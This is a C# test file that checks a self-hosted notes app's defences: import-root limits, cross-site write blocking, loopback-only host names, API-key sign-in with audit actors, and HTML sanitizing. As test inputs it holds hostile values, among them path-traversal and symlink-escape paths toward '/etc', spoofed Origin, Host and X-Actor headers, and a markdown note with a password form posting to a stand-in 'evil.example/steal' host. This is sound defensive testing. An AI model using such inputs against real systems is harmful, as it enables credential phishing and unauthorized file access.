using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using DocStore.Tests.Infrastructure;

namespace DocStore.Notes.Tests;

/// <summary>
/// The app as a careful self-hosted notes app: folder import only below configured roots, no cross-site
/// writes, loopback host names only, an optional sign-in whose identity alone names the audit actor, a strict
/// sanitizer and security headers. In-process over HTTP, on a real database file.
/// </summary>
public sealed class NotesSecurityTest
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Folder_import_is_off_without_configured_roots()
    {
        await using var app = new NotesAppFactory();
        using var http = app.CreateClient();
        var response = await http.PostAsJsonAsync("/api/import/folder", new { path = "/etc" }, Ct);
        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Contains("Notes:ImportRoots", await response.Content.ReadAsStringAsync(Ct), StringComparison.Ordinal);
        Assert.Equal(0, await Total(http));
    }

    [Fact]
    public async Task Folder_import_refuses_paths_outside_its_roots_relative_paths_and_links_that_lead_out()
    {
        using var temp = new TempDirectory();
        var root = Directory.CreateDirectory(temp.File("allowed")).FullName;
        var outside = Directory.CreateDirectory(temp.File("private")).FullName;
        await File.WriteAllTextAsync(Path.Combine(root, "ok.md"), "# Allowed\ninside the root", Ct);
        await File.WriteAllTextAsync(Path.Combine(outside, "secret.txt"), "secret words", Ct);
        Directory.CreateSymbolicLink(Path.Combine(root, "escape"), outside);
        await using var app = new NotesAppFactory(new Dictionary<string, string?> { ["Notes:ImportRoots:0"] = root });
        using var http = app.CreateClient();

        foreach (var path in new[] { outside, "/etc", Path.Combine(root, "..", "private"), Path.Combine(root, "escape"), "../../../etc" })
        {
            var refused = await http.PostAsJsonAsync("/api/import/folder", new { path }, Ct);
            Assert.True(refused.StatusCode == HttpStatusCode.Forbidden, $"{path}: {refused.StatusCode}");
        }

        // The root itself imports, but the link inside it that leads out is reported, not read into the store.
        var imported = await http.PostAsJsonAsync("/api/import/folder", new { path = root }, Ct);
        Assert.Equal(HttpStatusCode.OK, imported.StatusCode);
        var report = await imported.Content.ReadFromJsonAsync<JsonElement>(Ct);
        Assert.Equal(1, report.GetProperty("created").GetInt64());
        Assert.Contains("outside the import roots", report.GetProperty("badFiles")[0].GetString(), StringComparison.Ordinal);
        var search = await http.GetFromJsonAsync<JsonElement>("/api/search?q=secret", Ct);
        Assert.Equal(0, search.GetProperty("totalCount").GetInt64());
    }

    [Fact]
    public async Task A_write_from_another_site_is_refused_and_scripts_without_origin_still_work()
    {
        await using var app = new NotesAppFactory();
        using var http = app.CreateClient();
        var note = new { title = "t", type = "note", content = "c" };

        using var crossSite = new HttpRequestMessage(HttpMethod.Post, "/api/documents") { Content = JsonContent.Create(note) };
        crossSite.Headers.Add("Origin", "http://evil.example");
        Assert.Equal(HttpStatusCode.Forbidden, (await http.SendAsync(crossSite, Ct)).StatusCode);

        using var upload = new HttpRequestMessage(HttpMethod.Post, "/api/import") { Content = Form("notes.txt", "cross-site upload") };
        upload.Headers.Add("Sec-Fetch-Site", "cross-site");
        Assert.Equal(HttpStatusCode.Forbidden, (await http.SendAsync(upload, Ct)).StatusCode);

        using var nullOrigin = new HttpRequestMessage(HttpMethod.Delete, "/api/documents/1");
        nullOrigin.Headers.Add("Origin", "null");
        Assert.Equal(HttpStatusCode.Forbidden, (await http.SendAsync(nullOrigin, Ct)).StatusCode);
        Assert.Equal(0, await Total(http));

        // The page's own requests (same origin) and scripts (no Origin, no Sec-Fetch-Site) are served.
        using var sameOrigin = new HttpRequestMessage(HttpMethod.Post, "/api/documents") { Content = JsonContent.Create(note) };
        sameOrigin.Headers.Add("Origin", http.BaseAddress!.GetLeftPart(UriPartial.Authority));
        sameOrigin.Headers.Add("Sec-Fetch-Site", "same-origin");
        Assert.Equal(HttpStatusCode.Created, (await http.SendAsync(sameOrigin, Ct)).StatusCode);

        // Behind a proxy that terminates TLS the page is https and the request http: the browser's own word counts.
        using var proxied = new HttpRequestMessage(HttpMethod.Post, "/api/documents") { Content = JsonContent.Create(note) };
        proxied.Headers.Add("Origin", "https://" + http.BaseAddress!.Authority);
        proxied.Headers.Add("Sec-Fetch-Site", "same-origin");
        Assert.Equal(HttpStatusCode.Created, (await http.SendAsync(proxied, Ct)).StatusCode);
        Assert.Equal(HttpStatusCode.Created, (await http.PostAsJsonAsync("/api/documents", note, Ct)).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await http.PostAsync("/api/import", Form("script.txt", "a script's upload"), Ct)).StatusCode);
        Assert.Equal(4, await Total(http));
    }

    [Fact]
    public async Task Only_loopback_host_names_are_answered()
    {
        await using var app = new NotesAppFactory();
        using var http = app.CreateClient();
        using var rebound = new HttpRequestMessage(HttpMethod.Get, "/api/documents");
        rebound.Headers.Host = "attacker.example";
        Assert.Equal(HttpStatusCode.BadRequest, (await http.SendAsync(rebound, Ct)).StatusCode);
        foreach (var host in new[] { "localhost", "127.0.0.1:5000", "[::1]:8080" })
        {
            using var local = new HttpRequestMessage(HttpMethod.Get, "/api/documents");
            local.Headers.Host = host;
            Assert.Equal(HttpStatusCode.OK, (await http.SendAsync(local, Ct)).StatusCode);
        }
    }

    [Fact]
    public async Task With_sign_in_every_call_needs_a_key_and_the_actor_is_the_signed_in_user_never_a_header()
    {
        await using var app = new NotesAppFactory(new Dictionary<string, string?> { ["Notes:ApiKeys:alice"] = "alice-key-0123456789", ["Notes:ApiKeys:bob"] = "bob-key-9876543210" });
        using var http = app.CreateClient();
        Assert.Equal(HttpStatusCode.Unauthorized, (await http.GetAsync("/api/documents", Ct)).StatusCode);
        using (var wrong = new HttpRequestMessage(HttpMethod.Get, "/api/documents"))
        {
            wrong.Headers.Authorization = new AuthenticationHeaderValue("Bearer", "not-a-key");
            Assert.Equal(HttpStatusCode.Unauthorized, (await http.SendAsync(wrong, Ct)).StatusCode);
        }

        // The page itself and the health check are public.
        Assert.Equal(HttpStatusCode.OK, (await http.GetAsync("/", Ct)).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await http.GetAsync("/health", Ct)).StatusCode);

        // A script with Alice's key, claiming to be someone else: the audit log records Alice.
        using var create = new HttpRequestMessage(HttpMethod.Post, "/api/documents") { Content = JsonContent.Create(new { title = "t", type = "note", content = "c" }) };
        create.Headers.Authorization = new AuthenticationHeaderValue("Bearer", "alice-key-0123456789");
        create.Headers.Add("X-Actor", "admin@company");
        var created = await (await http.SendAsync(create, Ct)).Content.ReadFromJsonAsync<JsonElement>(Ct);
        var id = created.GetProperty("id").GetInt64();

        // The page signs in with Bob's key and gets a cookie; its writes are Bob's.
        var signIn = await http.PostAsJsonAsync("/api/session", new { apiKey = "bob-key-9876543210" }, Ct);
        Assert.Equal(HttpStatusCode.OK, signIn.StatusCode);
        var cookie = signIn.Headers.GetValues("Set-Cookie").Single();
        Assert.Contains("samesite=strict", cookie, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("httponly", cookie, StringComparison.OrdinalIgnoreCase);
        Assert.Equal(HttpStatusCode.OK, (await http.PutAsJsonAsync($"/api/documents/{id}", new { content = "by bob" }, Ct)).StatusCode);
        Assert.Equal(HttpStatusCode.Unauthorized, (await http.PostAsJsonAsync("/api/session", new { apiKey = "guess" }, Ct)).StatusCode);

        var audit = await http.GetFromJsonAsync<JsonElement>($"/api/audit?documentId={id}", Ct);
        var actors = audit.GetProperty("items").EnumerateArray().Select(e => (e.GetProperty("operation").GetString(), e.GetProperty("actor").GetString())).ToList();
        Assert.Contains(("Create", "alice"), actors);
        Assert.Contains(("Update", "bob"), actors);

        Assert.Equal(HttpStatusCode.NoContent, (await http.DeleteAsync("/api/session", Ct)).StatusCode);
        Assert.Equal(HttpStatusCode.Unauthorized, (await http.GetAsync("/api/documents", Ct)).StatusCode);
    }

    [Fact]
    public async Task Without_sign_in_the_actor_header_is_ignored()
    {
        await using var app = new NotesAppFactory();
        using var http = app.CreateClient();
        using var create = new HttpRequestMessage(HttpMethod.Post, "/api/documents") { Content = JsonContent.Create(new { title = "t", type = "note", content = "c" }) };
        create.Headers.Add("X-Actor", "admin@company");
        var id = (await (await http.SendAsync(create, Ct)).Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("id").GetInt64();
        var audit = await http.GetFromJsonAsync<JsonElement>($"/api/audit?documentId={id}", Ct);
        Assert.DoesNotContain(audit.GetProperty("items").EnumerateArray(), e => e.GetProperty("actor").GetString() == "admin@company");
    }

    [Fact]
    public async Task Rendered_markdown_keeps_no_style_form_inputs_or_remote_images_and_responses_carry_a_csp()
    {
        await using var app = new NotesAppFactory();
        using var http = app.CreateClient();
        var markdown = """
            # Note

            <div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">cover</div>

            <form action="https://evil.example/steal"><input type="password" name="p"><button>Log in</button></form>

            ![pixel](https://tracker.example/p.gif) <img src="http://tracker.example/q.gif"> <video poster="https://tracker.example/v.png"></video>

            [a link](https://example.org/page)
            """;
        var id = (await (await http.PostAsJsonAsync("/api/documents", new { title = "hostile", type = "note", content = markdown, format = "markdown" }, Ct)).Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("id").GetInt64();
        var response = await http.GetAsync($"/api/documents/{id}/html", Ct);
        var html = (await response.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("html").GetString()!;
        Assert.False(html.Contains("style", StringComparison.OrdinalIgnoreCase), html);
        Assert.DoesNotContain("<form", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<input", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("tracker.example", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("href=\"https://example.org/page\"", html, StringComparison.Ordinal);
        Assert.Contains("cover", html, StringComparison.Ordinal);

        var csp = response.Headers.GetValues("Content-Security-Policy").Single();
        Assert.Contains("script-src 'self'", csp, StringComparison.Ordinal);
        Assert.Contains("frame-ancestors 'none'", csp, StringComparison.Ordinal);
        Assert.DoesNotContain("unsafe-inline", csp, StringComparison.Ordinal);
        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
        var page = await http.GetAsync("/", Ct);
        Assert.Contains("frame-ancestors 'none'", page.Headers.GetValues("Content-Security-Policy").Single(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Remote_images_are_kept_when_configured()
    {
        await using var app = new NotesAppFactory(new Dictionary<string, string?> { ["Notes:AllowRemoteImages"] = "true" });
        using var http = app.CreateClient();
        var id = (await (await http.PostAsJsonAsync("/api/documents", new { title = "img", type = "note", content = "![x](https://images.example/x.png)", format = "markdown" }, Ct)).Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("id").GetInt64();
        var response = await http.GetAsync($"/api/documents/{id}/html", Ct);
        Assert.Contains("https://images.example/x.png", (await response.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("html").GetString(), StringComparison.Ordinal);
        Assert.Contains("img-src 'self' data: https:", response.Headers.GetValues("Content-Security-Policy").Single(), StringComparison.Ordinal);
    }

    private static MultipartFormDataContent Form(string name, string text)
    {
        var form = new MultipartFormDataContent();
        var part = new StringContent(text, Encoding.UTF8);
        part.Headers.ContentType = new MediaTypeHeaderValue("text/plain");
        form.Add(part, "file", name);
        return form;
    }

    private static async Task<long> Total(HttpClient http) =>
        (await http.GetFromJsonAsync<JsonElement>("/api/documents", Ct)).GetProperty("totalCount").GetInt64();
}
